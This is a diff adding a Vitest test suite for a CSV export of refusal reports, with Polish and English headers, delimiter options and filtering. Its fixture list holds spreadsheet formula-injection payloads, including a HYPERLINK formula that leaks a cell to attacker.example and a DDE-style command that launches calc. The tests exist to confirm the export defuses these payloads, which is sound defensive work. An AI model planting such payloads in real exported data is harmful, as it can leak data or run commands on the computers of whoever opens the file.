@@ -1,0 +1,115 @@
+import Papa from "papaparse";
+import { beforeAll, describe, expect, it } from "vitest";
+import { db } from "@/lib/db/client";
+import { parseFilter, resolveFilter } from "@/lib/dashboard/filters";
+import { marchFixture } from "@/lib/dashboard/fixture.test-helpers";
+import { reportColumns } from "./columns";
+import { csvCell, csvStream } from "./csv";
+import { neutraliseCell } from "./neutralise";
+import { exportReportRows } from "./rows";
+import { translatorFor } from "./test-translator";
+
+const HOSTILE = [
+  '=HYPERLINK("http://attacker.example/?leak="&A1,"Szczegóły")',
+  "+48 600 100 200",
+  "-1+1",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+];
+
+let f: Awaited<ReturnType<typeof marchFixture>>;
+beforeAll(async () => {
+  f = await marchFixture();
+  await db.refusalReport.update({
+    where: { id: f.reports.justified1.id },
+    data: { narrative: "Zażółć gęślą jaźń – klient krzyczał; „cytat”, przecinek, i\nnowa linia", customerDescription: "Mężczyzna ok. 40 lat" },
+  });
+  for (const [index, payload] of HOSTILE.entries()) {
+    await db.refusalReport.update({
+      where: { id: [f.reports.notJustified, f.reports.appealed, f.reports.submitted, f.reports.inReview, f.reports.withdrawn, f.reports.justified2][index].id },
+      data: { narrative: payload, customerRequest: payload },
+    });
+  }
+});
+
+async function readAll(stream: NodeJS.ReadableStream): Promise<Buffer> {
+  const chunks: Buffer[] = [];
+  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
+  return Buffer.concat(chunks);
+}
+
+async function exportCsv(extra: Record<string, string> = {}, options: { delimiter?: "comma" | "semicolon"; customer?: boolean; locale?: "pl" | "en" } = {}) {
+  const filter = resolveFilter(parseFilter(f.params(extra)).data!, f.now);
+  const t = translatorFor(options.locale ?? "pl");
+  const columns = reportColumns(t, { includeCustomerDescription: options.customer });
+  const bytes = await readAll(csvStream(exportReportRows(f.hr, filter, { includeCustomerDescription: options.customer, batchSize: 2 }), columns, { delimiter: options.delimiter }));
+  const parsed = Papa.parse<string[]>(bytes.toString("utf8").replace(/^\uFEFF/, ""), { skipEmptyLines: true });
+  expect(parsed.errors).toEqual([]);
+  return { bytes, header: parsed.data[0], rows: parsed.data.slice(1) };
+}
+
+describe("CSV export", () => {
+  it("parses back to exactly the stored rows, with a BOM, Polish headers and letters intact", async () => {
+    const { bytes, header, rows } = await exportCsv();
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(header.slice(0, 3)).toEqual(["Numer zgłoszenia", "Data zgłoszenia", "Data zdarzenia"]);
+    expect(header).not.toContain("Opis klienta");
+    const stored = await db.refusalReport.findMany({
+      where: { locationId: { in: [f.a.id, f.b.id] }, createdAt: { gte: new Date("2026-02-28T23:00:00Z"), lt: new Date("2026-03-31T22:00:00Z") } },
+      orderBy: [{ createdAt: "asc" }, { id: "asc" }],
+      include: { location: true, reporter: true },
+    });
+    expect(rows.map((row) => row[0])).toEqual(stored.map((report) => report.number));
+    const col = (name: string) => header.indexOf(name);
+    for (const [index, report] of stored.entries()) {
+      const row = rows[index];
+      expect(row[col("Placówka")]).toBe(report.location.name);
+      expect(row[col("Pracownik")]).toBe("Żaneta Głowacka");
+      expect(row[col("Przebieg zdarzenia")]).toBe(neutraliseCell(report.narrative));
+      expect(row[col("Żądanie klienta")]).toBe(neutraliseCell(report.customerRequest));
+      expect(new Date(row[col("Data zgłoszenia")]).getTime()).toBe(report.createdAt.getTime());
+      expect(new Date(row[col("Data zdarzenia")]).getTime()).toBe(report.occurredAt.getTime());
+    }
+    const first = rows.find((row) => row[0] === f.reports.justified1.number)!;
+    expect(first[col("Przebieg zdarzenia")]).toBe("Zażółć gęślą jaźń – klient krzyczał; „cytat”, przecinek, i\nnowa linia");
+    expect(first[col("Data zgłoszenia")]).toBe("2026-03-02T12:00:00+01:00");
+    expect(first[col("Rozstrzygnięcie")]).toBe("Uzasadniona");
+    expect(first[col("Godziny do decyzji")]).toBe("2");
+    const summer = rows.find((row) => row[0] === f.reports.inReview.number)!;
+    expect(summer[col("Data zgłoszenia")]).toBe("2026-03-31T00:30:00+02:00");
+    const appealed = rows.find((row) => row[0] === f.reports.appealed.number)!;
+    expect(appealed[col("Obrażenia")]).toBe("tak");
+    expect(appealed[col("Status")]).toBe("Odwołanie");
+    expect(appealed[col("Rozstrzygnięcie")]).toBe("Nieuzasadniona");
+  });
+
+  it("makes formula payloads inert: every hostile cell starts with an apostrophe and keeps its text", async () => {
+    const { header, rows } = await exportCsv();
+    const narratives = rows.map((row) => row[header.indexOf("Przebieg zdarzenia")]);
+    for (const payload of HOSTILE) {
+      expect(narratives).toContain(`'${payload}`);
+    }
+    for (const row of rows) {
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
+  it("writes semicolons with decimal commas, English headers, and the customer description only when asked", async () => {
+    const { bytes, header, rows } = await exportCsv({}, { delimiter: "semicolon", customer: true, locale: "en" });
+    const firstLine = bytes.toString("utf8").replace(/^\uFEFF/, "").split("\r\n")[0];
+    expect(firstLine.startsWith("Report number;Filed at;Occurred at;")).toBe(true);
+    expect(header).toContain("Customer description");
+    const row = rows.find((r) => r[0] === f.reports.justified1.number)!;
+    expect(row[header.indexOf("Customer description")]).toBe("Mężczyzna ok. 40 lat");
+    const appealed = rows.find((r) => r[0] === f.reports.appealed.number)!;
+    expect(appealed[header.indexOf("Hours to file")]).toBe("3");
+    expect(csvCell(1.5, { delimiter: "semicolon" })).toBe("1,5");
+    expect(csvCell(1.5, { delimiter: "comma" })).toBe("1.5");
+  });
+
+  it("exports only the filtered rows", async () => {
+    const { rows } = await exportCsv({ loc: f.b.id });
+    expect(rows.map((row) => row[0]).sort()).toEqual([f.reports.inReview.number, f.reports.withdrawn.number].sort());
+  });
+});
